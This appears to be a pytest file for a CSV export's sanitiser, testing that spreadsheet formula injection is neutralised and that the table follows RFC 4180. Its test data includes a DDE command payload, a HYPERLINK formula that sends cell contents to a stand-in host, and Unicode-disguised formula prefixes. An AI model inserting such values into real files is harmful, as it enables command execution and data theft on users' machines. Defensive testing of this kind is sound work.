"""The attached table: RFC 4180, and no cell that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest

from freehold.adapters.rendering.table import COLUMNS, safe
from tests.reports.sample import CALM, items, render

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://x.example?"&A1)',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\N{NO-BREAK SPACE}=1",
    "\N{IDEOGRAPHIC SPACE}=1",
    "'=1",
    '"=1',
    "\N{FULLWIDTH EQUALS SIGN}1",
    "\N{FULLWIDTH PLUS SIGN}1",
    "\N{FULLWIDTH HYPHEN-MINUS}1",
    "\N{FULLWIDTH COMMERCIAL AT}1",
    "\N{SMALL EQUALS SIGN}1",
    "\N{MINUS SIGN}1",
    "\u200b=1",
    "\ufeff=1",
    "\u202e=1",
    "\x00=1",
    "+49 40 1234",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_what_a_spreadsheet_would_run_is_text(formula: str) -> None:
    assert safe(formula).startswith("'")


@pytest.mark.parametrize("inside", ["x;=1+1", 'x";=1', "x, =1", "x|@SUM(1)", "x;-cmd"])
def test_a_reader_with_another_separator_runs_nothing_either(inside: str) -> None:
    assert "'" in safe(inside)
    assert not any(cell.strip(" \"'")[:1] == cell[:1] and cell[:1] in "=+-@" for cell in
                   safe(inside).replace("|", ";").replace(",", ";").split(";"))  # fmt: skip


@pytest.mark.parametrize(
    "plain", ["12", "-12", "-12.50", "Room 5", "a=b", "C-12", "Room 5, -1", '["a","-5"]', "", "é"]
)
def test_what_is_no_formula_stays_as_it_is(plain: str) -> None:
    assert safe(plain) == plain


def test_it_is_a_table_with_a_mark_for_spreadsheets() -> None:
    facts = replace(CALM, items=items(3, unit='Room "1", sea\r\nview', hold_key="=1+1"))
    table = render(facts).table
    assert table.startswith(b"\xef\xbb\xbfrule,")
    rows = list(csv.reader(io.StringIO(table.decode("utf-8-sig"), newline=""), strict=True))
    assert tuple(rows[0]) == COLUMNS
    assert rows[1][:3] == ["rooms", 'Room "1", sea view', "'=1+1"]
    assert rows[1][3:] == ["2026-03-14T00:00:00+01:00", "2026-03-14T00:00:01.000+01:00", "1.250"]
    assert [len(row) for row in rows] == [6] * 4


def test_a_day_without_releases_has_an_empty_table_that_is_not_attached() -> None:
    rendered = render(CALM)
    assert rendered.table.decode("utf-8-sig") == ",".join(COLUMNS) + "\r\n"
    assert b"text/csv" not in rendered.body
    assert b"text/csv" in render(replace(CALM, items=items(1))).body
